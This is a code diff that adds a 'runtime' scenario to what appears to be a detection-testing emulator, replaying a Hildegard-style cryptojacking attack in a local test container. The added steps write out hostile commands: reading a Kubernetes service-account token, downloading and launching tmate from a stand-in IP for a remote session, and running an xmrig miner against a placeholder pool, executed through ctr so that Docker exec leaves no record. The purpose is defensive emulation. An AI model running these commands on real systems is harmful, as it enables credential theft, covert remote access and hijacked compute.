@@ -17,6 +17,7 @@ import ipaddress
 import json
 import secrets
 import shutil
+import subprocess
 import tempfile
 import time
 from collections.abc import Callable
@@ -30,6 +31,8 @@ import docker.errors
 IMAGE = "local/bb:1"
 EMU_LABEL = "io.execguard.emulate"
 SCENARIOS = ("teamtnt", "kinsing")
+RUNTIME = "runtime"  # exec through containerd with ctr: needs the daemon's containerd socket (--containerd)
+CTR_TIMEOUT = 60.0
 
 
 class EmulateError(RuntimeError):
@@ -56,8 +59,9 @@ def _now() -> str:
 
 
 class Emulator:
-    def __init__(self, client: Any, out: IO[str], image: str = IMAGE) -> None:
+    def __init__(self, client: Any, out: IO[str], image: str = IMAGE, containerd: str | None = None) -> None:
         self.client = client
+        self.containerd = containerd  # the daemon's containerd socket, for the runtime procedure
         self.api = client.api
         self.out = out
         self.image = image
@@ -151,11 +155,41 @@ class Emulator:
             ctr.wait(timeout=30)
 
 
-def emulate(client: Any, scenario: str, out: IO[str], events: IO[str] | None = None) -> int:
-    emu = Emulator(client, out)
+    def runtime(self) -> None:
+        """Hildegard's kubelet /run lands in the runtime: exec with ctr, no Docker exec, no API server record.
+
+        Each command ends in ``sleep 1; true`` as a real download or session would run for a while, so the
+        runtime watcher reads its argv from /proc before it exits (a last ``sleep`` alone would be exec'd
+        by the shell, replacing the argv that /proc shows)."""
+        ctr_bin = shutil.which("ctr")
+        if ctr_bin is None or not self.containerd:
+            raise EmulateError("the runtime procedure needs ctr on PATH and the daemon's containerd socket (--containerd)")
+        sc, proc, address = RUNTIME, "S0601", self.containerd.removeprefix("unix://")
+        victim = self.run("node-app", ["sleep", "600"], labels={"app": "node-app"})
+        steps = [
+            ("read token", ["sh", "-c", "id; cat /var/run/secrets/kubernetes.io/serviceaccount/token 2>/dev/null; sleep 1; true"]),
+            ("download tmate", ["sh", "-c", "wget -q -T 1 -O /tmp/tmate http://198.51.100.7/tmate; chmod +x /tmp/tmate; sleep 1; true"]),
+            ("remote session", ["sh", "-c", "/tmp/tmate -S /tmp/.t new-session -d 2>/dev/null; sleep 1; true"]),
+            ("run miner", ["sh", "-c", "/tmp/xmrig -o stratum+tcp://pool.example.net:3333 --donate-level 1 2>/dev/null; sleep 1; true"]),
+        ]
+        for i, (step, cmd) in enumerate(steps):
+            exec_id = f"egemu-{self.run_id}-{i}"
+            argv = [ctr_bin, "--address", address, "--namespace", "moby", "task", "exec", "--exec-id", exec_id, victim.id, *cmd]
+            try:
+                r = subprocess.run(argv, capture_output=True, timeout=CTR_TIMEOUT, check=False, stdin=subprocess.DEVNULL)
+            except subprocess.TimeoutExpired as exc:
+                raise EmulateError(f"ctr task exec {exec_id}: no answer within {CTR_TIMEOUT:.0f}s") from exc
+            extra: dict[str, Any] = {"via": "ctr task exec", "exit_code": r.returncode}
+            if r.returncode and r.stderr:
+                extra["error"] = r.stderr.decode(errors="replace").strip()[:300]
+            self.label(sc, proc, step, victim, exec_id, cmd, **extra)
+
+
+def emulate(client: Any, scenario: str, out: IO[str], events: IO[str] | None = None, containerd: str | None = None) -> int:
+    emu = Emulator(client, out, containerd=containerd)
     emu.ensure_image()
-    chosen = SCENARIOS if scenario == "all" else (scenario,)
-    procs: dict[str, Callable[[], None]] = {"teamtnt": emu.teamtnt, "kinsing": emu.kinsing}
+    chosen = (*SCENARIOS, *((RUNTIME,) if containerd else ())) if scenario == "all" else (scenario,)
+    procs: dict[str, Callable[[], None]] = {"teamtnt": emu.teamtnt, "kinsing": emu.kinsing, RUNTIME: emu.runtime}
     since = int(time.time()) - 1
     try:
         for name in chosen:
